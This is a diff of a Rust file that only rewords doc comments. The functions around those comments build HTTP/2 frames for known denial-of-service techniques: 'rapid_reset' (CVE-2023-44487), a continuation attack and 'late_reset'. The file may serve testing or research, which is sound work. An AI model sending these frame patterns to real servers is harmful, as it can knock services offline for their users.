@@ -75,7 +75,7 @@ fn head(stream: u32) -> Vec<u8> {
     frame(HEADERS, END_HEADERS, stream, &block.concat())
 }
 
-/// Opens and resets a stream at once (CVE-2023-44487).
+/// Opens a stream and resets it immediately (CVE-2023-44487).
 fn rapid_reset(stream: u32) -> Vec<u8> {
     let cancel = 8_u32.to_be_bytes();
     [head(stream), frame(RST_STREAM, 0, stream, &cancel)].concat()
@@ -98,8 +98,8 @@ fn continuation(stream: u32) -> Vec<u8> {
     }
 }
 
-/// Resets each stream after the server has read its header. The server cannot tell this from a
-/// client that gives up, and each stream costs no more than that.
+/// Resets each stream after the server has read its header. To the server, this is
+/// the same as a client that gives up, and each stream costs no more.
 fn late_reset(stream: u32) -> Vec<u8> {
     let reset = match stream {
         1 => Vec::new(),
